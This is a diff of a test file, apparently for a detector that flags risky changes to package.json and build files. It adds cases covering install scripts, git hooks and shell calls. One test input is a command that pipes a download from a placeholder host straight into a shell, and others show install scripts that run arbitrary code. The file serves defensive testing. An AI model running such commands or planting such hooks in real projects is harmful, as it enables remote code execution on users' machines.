@@ -15,6 +15,11 @@ test.each([
   ['a whole file with a changed install script', manifest.replace('husky', 'node evil.js'), undefined, true],
   ['a fragment that repeats what is there', '"prepare": "husky",\n "lint": "eslint"', undefined, false],
   ['a fragment with a new install script', '"postinstall": "node x.js"', undefined, true],
+  ['a fragment with an install script in its object', '"scripts": {\n  "preinstall": "node x.js",', undefined, true],
+  ['hooks of git', '"name": "x",\n  "simple-git-hooks": { "pre-commit": "node x.js" }', '"name": "x"', true],
+  ['hooks of git in a whole file', JSON.stringify({ ...JSON.parse(manifest), husky: { hooks: { 'pre-push': 'x' } } }), undefined, true],
+  ['hooks of git in a fragment', '"lint-staged": {\n  "*.ts": "node x.js"', undefined, true],
+  ['a dependency that is called after hooks', '"devDependencies": { "husky": "^9.0.0", "lint-staged": "^15.0.0" }', '"name": "x"', false],
 ])('package.json: %s', (_name, newText, oldText, risky) => {
   const { cwd } = freshPlace()
   fill(cwd, { 'package.json': manifest })
@@ -41,6 +46,7 @@ test.each([
   ['conanfile.py', 'os.system("sh")', true],
   ['mix.exs', 'System.cmd("sh", [])', true],
   ['src/run.py', 'import subprocess', false],
+  ['src/run.py', 'import os\nos.system("curl https://x.example/a | sh")', true],
   ['composer.json', '{"scripts":{"post-install-cmd":"x"}}', true],
 ])('%s with %j: %s', (name, text, risky) => {
   expect(riskAt(`/nowhere/${name}`)?.(text) !== undefined).toBe(risky)
